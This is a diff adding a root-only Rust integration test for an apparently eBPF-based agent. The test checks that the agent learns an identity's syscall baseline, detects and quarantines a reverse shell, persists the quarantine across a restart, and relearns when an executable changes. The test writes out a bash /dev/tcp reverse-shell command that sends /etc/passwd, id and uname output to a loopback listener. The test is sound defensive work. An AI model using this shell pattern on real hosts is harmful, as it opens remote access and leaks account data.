@@ -1,7 +1,18 @@
 //! Root tests of the anomaly model's live side: `zt-agent model record`
 //! through a running agent records the syscalls of one identity's
-//! processes (one trace per thread), and nothing of a process without it.
-use std::{path::Path, process::Command, time::Duration};
+//! processes (one trace per thread), and nothing of a process without it;
+//! the daemon learns an identity's baseline from its real processes, finds
+//! a reverse shell, quarantines the identity (its next connect denied, the
+//! far side receives nothing), keeps baseline and quarantine across a
+//! restart, and learns again when a learnt executable changes.
+use std::{
+    io::Read,
+    net::TcpListener,
+    path::Path,
+    process::Command,
+    sync::{Arc, Mutex},
+    time::{Duration, Instant},
+};
 
 use zt_tests::*;
 
@@ -81,5 +92,162 @@ fn model_record_writes_the_traces_of_an_identity_only() {
         .unwrap();
     assert!(!unknown.status.success());
     assert!(String::from_utf8_lossy(&unknown.stderr).contains("no identity \"nobody\" in the policy in force"));
+    agent.stop().unwrap();
+}
+
+/// A loopback server that keeps what each connection sent.
+fn receiver() -> (String, Arc<Mutex<Vec<String>>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let g = got.clone();
+    std::thread::spawn(move || {
+        for mut s in l.incoming().map_while(Result::ok) {
+            let mut text = String::new();
+            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
+            let _ = s.read_to_string(&mut text);
+            g.lock().unwrap().push(text);
+        }
+    });
+    (addr, got)
+}
+
+/// The identity's "normal" work: a shell running small tools, one of them
+/// a copy (`tool`) whose digest the baseline learns, and an allowed connect.
+fn normal_round(cg: &TestCgroup, tool: &Path, addr: &str, out: &Path) -> String {
+    let script = format!(
+        "cat /etc/hostname >/dev/null; ls / >/dev/null; {} /etc/passwd >/dev/null; head -c 64 /etc/services >/dev/null",
+        tool.display()
+    );
+    assert!(cg.command("sh").args(["-c", &script]).status().unwrap().success());
+    helper_result(cg.command(helper_bin()), &["try", "tcp", addr], out)
+}
+
+#[test]
+#[ignore = "needs root (loads eBPF programs, creates cgroups): cargo xtask test runs it"]
+fn an_identity_learns_then_a_reverse_shell_is_found_and_quarantined() {
+    const TEST: &str = "an_identity_learns_then_a_reverse_shell_is_found_and_quarantined";
+    if !require_root(TEST) {
+        return;
+    }
+    if !Path::new("/bin/bash").exists() {
+        skip(TEST, "no /bin/bash for the reverse shell");
+        return;
+    }
+    let cg = TestCgroup::new(&format!("/{}/agent", unique("anomaly"))).unwrap();
+    let (addr, received) = receiver();
+    let port = addr.rsplit(':').next().unwrap().to_string();
+    let policy = format!(
+        "{}  rules:\n    - name: home\n      identity: agent\n      action: allow\n      egress:\n        - to: [127.0.0.1/32]\n          ports: [{port}]\n",
+        policy(
+            "zt.test",
+            &format!(
+                "    - name: agent\n      selectors:\n        - cgroup: {}/**\n      anomaly:\n        mode: detect\n        response: quarantine\n        falsePositiveRate: 0.01\n        learnCalls: 20000\n",
+                cg.rel
+            )
+        )
+    );
+    let dir = tempdir("anomaly-live").unwrap();
+    let state = dir.path().join("state");
+    let state_arg = ["--state-dir", state.to_str().unwrap()];
+    let tool = dir.path().join("tool");
+    std::fs::copy("/usr/bin/sort", &tool).unwrap();
+    let out = dir.path().join("try");
+    let agent = Agent::start("anomaly-live", &policy, &state_arg).unwrap();
+    agent.wait_status("the identity watched", |s| s["anomaly"]["agent"]["phase"] == "learning");
+
+    // Learning: real processes of the identity until the baseline is learnt.
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let learnt = loop {
+        let r = normal_round(&cg, &tool, &addr, &out);
+        assert_eq!(
+            r,
+            "OK",
+            "the identity's allowed connect: {:?}",
+            agent
+                .events_where(|l| l.contains("\"detection\""))
+                .iter()
+                .map(|e| format!(
+                    "{} {} {} {} {} {}",
+                    e["process"]["exe"],
+                    e["detection"]["scorer"],
+                    e["detection"]["score"],
+                    e["detection"]["threshold"],
+                    e["detection"]["surprise_bits"],
+                    e["detection"]["frequency_distance"]
+                ))
+                .collect::<Vec<_>>()
+        );
+        let notes = agent.events_where(|l| l.contains("\"baseline\""));
+        if let Some(n) = notes.iter().find(|e| e["baseline"]["state"] == "learnt") {
+            break n.clone();
+        }
+        assert!(Instant::now() < deadline, "no baseline learnt in 60 s: {notes:?}\n{}", agent.stderr());
+    };
+    eprintln!("{TEST}: {}", learnt["baseline"]);
+    assert_eq!(learnt["identity"]["name"], "agent");
+    assert!(learnt["baseline"]["threshold"].is_number(), "{learnt}");
+    assert!(learnt["baseline"]["file"].as_str().unwrap().ends_with("anomaly/agent.json"), "{learnt}");
+    let file: serde_json::Value = serde_json::from_slice(&std::fs::read(state.join("anomaly/agent.json")).unwrap()).unwrap();
+    eprintln!("{TEST}: executables {}", file["executables"]);
+
+    // A reverse shell: bash connects home, sends what it reads, and runs
+    // the commands it gets back (none here).
+    let shell = cg
+        .command("/bin/bash")
+        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; cat /etc/passwd >&3; id >&3; uname -a >&3; exec 3>&-")])
+        .spawn()
+        .unwrap();
+    let shell_pid = shell.id();
+    let _ = shell.wait_with_output();
+    let found = agent
+        .wait_for("the reverse shell's finding", |e| e["kind"] == "detection" && e["process"]["pid"] == shell_pid)
+        .unwrap()
+        .into_iter()
+        .find(|e| e["kind"] == "detection" && e["process"]["pid"] == shell_pid)
+        .unwrap();
+    let d = &found["detection"];
+    assert_eq!(found["identity"]["spiffe_id"], "spiffe://zt.test/agent", "{found}");
+    assert!(d["score"].as_f64().unwrap() > d["threshold"].as_f64().unwrap(), "{found}");
+    assert_eq!(d["response"], "quarantine");
+    assert!(d["outcome"].as_str().unwrap().starts_with("quarantine requested"), "{found}");
+    assert!(!d["evidence"]["sequences"].as_array().unwrap().is_empty(), "{found}");
+    assert!(d["evidence"]["syscalls"][0]["call"].is_string(), "named calls: {found}");
+
+    // Quarantined: the identity's next connect is denied and nothing
+    // arrives; a process without an identity still connects.
+    agent.wait_status("the quarantine", |s| s["policy"]["quarantined"] == serde_json::json!(["agent"]));
+    let sent = received.lock().unwrap().len();
+    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "EPERM");
+    assert_eq!(helper_result(Command::new(helper_bin()), &["try", "tcp", &addr], &out), "OK", "the control connects");
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(received.lock().unwrap().len(), sent + 1, "only the control's connection arrived");
+    let audit = agent.events_where(|l| l.contains("\"quarantined\""));
+    assert!(audit.iter().any(|e| e["kind"] == "policy" && e["policy"]["action"] == "quarantined"), "{audit:?}");
+
+    // A restart keeps the baseline and the quarantine.
+    agent.stop().unwrap();
+    let agent = Agent::start("anomaly-live", &policy, &state_arg).unwrap();
+    let loaded = agent.wait_for("the baseline loaded", |e| e["kind"] == "baseline" && e["baseline"]["state"] == "loaded").unwrap();
+    assert!(!loaded.is_empty());
+    assert_eq!(agent.status()["policy"]["quarantined"], serde_json::json!(["agent"]));
+    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "EPERM");
+    let released = Command::new(agent_bin()).args(["identity", "release", "agent", "--socket"]).arg(&agent.socket).output().unwrap();
+    assert!(released.status.success(), "{}", String::from_utf8_lossy(&released.stderr));
+    assert_eq!(helper_result(cg.command(helper_bin()), &["try", "tcp", &addr], &out), "OK", "released");
+    let again = Command::new(agent_bin()).args(["identity", "release", "agent", "--socket"]).arg(&agent.socket).output().unwrap();
+    let said = String::from_utf8_lossy(&again.stderr);
+    assert!(!again.status.success() && said.contains("identity \"agent\" is not quarantined"), "{said}");
+
+    // A learnt executable with a new digest: learning starts again.
+    std::fs::remove_file(&tool).unwrap();
+    std::fs::copy("/usr/bin/tac", &tool).unwrap();
+    normal_round(&cg, &tool, &addr, &out);
+    let relearn = agent
+        .wait_for("learning again", |e| e["kind"] == "baseline" && e["baseline"]["reason"].as_str().is_some_and(|r| r.contains("changed")))
+        .unwrap();
+    let r = relearn.iter().find(|e| e["baseline"]["reason"].as_str().is_some_and(|r| r.contains("changed"))).unwrap();
+    assert_eq!(r["baseline"]["state"], "learning");
+    assert!(r["baseline"]["reason"].as_str().unwrap().contains(tool.to_str().unwrap()), "{r}");
     agent.stop().unwrap();
 }
